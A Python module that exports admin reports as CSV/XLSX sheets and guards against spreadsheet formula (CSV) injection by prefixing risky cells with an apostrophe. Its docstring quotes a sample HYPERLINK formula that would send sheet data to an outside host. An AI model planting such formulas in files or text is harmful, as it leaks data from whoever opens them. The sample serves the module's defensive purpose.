"""Spreadsheet exports (CSV and XLSX) of our admin reports.

Cells carry text that providers and partners write (service titles, organisation names,
case descriptions). A cell starting with "=", "+", "-", "@", a tab or a carriage return
is run as a formula by Excel and LibreOffice ("CSV injection": a title such as
`=HYPERLINK("https://…?"&A1)` would send the sheet's data away when opened), and openpyxl
writes such a string into an XLSX file as a formula. Such text gets a leading apostrophe,
as OWASP recommends; numbers and dates are untouched.
"""

import tablib

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def dataset(rows, headers: dict, title: str) -> tablib.Dataset:
    """A sheet of `rows` (dicts) with the columns and headings of `headers`."""
    sheet = tablib.Dataset(headers=[str(h) for h in headers.values()], title=title)
    for row in rows:
        sheet.append([safe_cell(row[key] if row[key] is not None else "") for key in headers])
    return sheet
